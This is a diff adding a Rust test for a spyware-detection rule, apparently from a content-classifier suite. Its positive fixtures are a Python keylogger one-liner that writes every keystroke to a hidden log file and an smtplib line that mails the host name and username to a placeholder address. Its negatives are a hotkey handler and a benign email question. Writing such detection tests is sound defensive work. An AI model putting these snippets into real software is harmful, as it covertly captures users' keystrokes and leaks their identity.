@@ -6873,3 +6873,27 @@ fn bots_addressed_not_owned() {
         ],
     );
 }
+
+/// Every keystroke written to a file and the host's names mailed away are spyware; a hotkey
+/// handler is not (round 108's leftovers).
+#[test]
+fn spyware_code() {
+    let rule = "tool.spyware_code";
+    assert_rules(
+        &[
+            (
+                "from pynput import keyboard\nlog = open('.k.log','a')\nkeyboard.Listener(on_press=lambda k: log.write(str(k))).start()",
+                rule,
+            ),
+            (
+                "s = smtplib.SMTP('mail.example', 587)\ns.sendmail('a@x.example', 'c@x.example', platform.uname().node + getpass.getuser())",
+                rule,
+            ),
+        ],
+        &[rule],
+        &[
+            "def on_press(key):\n    if key == keyboard.Key.f9: log.write('saved')",
+            "How do I send an email with smtplib using Gmail's SMTP server and an app password?",
+        ],
+    );
+}
